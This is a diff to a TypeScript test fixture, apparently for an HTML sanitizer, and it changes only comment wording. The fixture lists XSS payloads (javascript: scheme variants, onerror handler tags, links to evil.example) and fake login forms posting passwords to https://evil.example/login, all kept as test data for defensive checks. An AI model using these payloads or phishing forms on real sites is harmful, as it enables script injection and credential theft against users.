@@ -1,10 +1,10 @@
 import { MUTATIONS } from './hostile-mutations.ts';
 
-/** Where `RUN` stands in a payload, a call stands that tells the test that it ran. */
+/** `RUN` in a payload is replaced by a call that reports to the test that it ran. */
 const RUN = 'RUN';
 const EVIL = 'https://evil.example';
 
-/** A colon-less word in all the ways in which a browser may still read it as a scheme. */
+/** Returns a word without a colon in all the ways in which a browser may still read it as a scheme. */
 const SCHEMES = [
   'javascript:RUN',
   'JaVaScRiPt:RUN',
@@ -43,7 +43,7 @@ const SCHEMES = [
   'filesystem:javascript:RUN',
 ] as const;
 
-/** Every tag with a handler that fires by itself, or by a glance at the page. */
+/** Every tag with a handler that fires without a click, or on the slightest interaction. */
 const HANDLERS = [
   '<img src=x onerror=RUN>',
   '<img src=x onerror="RUN" hidden>',
@@ -204,12 +204,12 @@ const CARRIERS = [
   '<a href="/\\evil.example">x</a><a href="//evil.example">y</a>',
 ] as const;
 
-/** Scripts that must not run, wherever HTML from outside is drawn. Each tells of itself by its number. */
+/** Scripts that must not run, wherever HTML from outside is drawn. Each reports its number. */
 export const SCRIPT_PAYLOADS: readonly string[] = [...HANDLERS, ...SCRIPTS, ...CARRIERS, ...MUTATIONS].map(
   (payload, index) => payload.replaceAll(RUN, `xss(${index})`),
 );
 
-/** False forms, spies and redirects: nothing runs in them, and still none may be drawn or load anything. */
+/** Fake forms, trackers and redirects: they run no script, but must not be drawn or load anything. */
 export const SPY_SNIPPETS: readonly string[] = [
   `<form action="${EVIL}/login"><input name=email><input type=password name=pw><button>Sign In</button></form>`,
   `<form id=f method=post action="${EVIL}"></form><button form=f>Session expired: sign in</button>`,
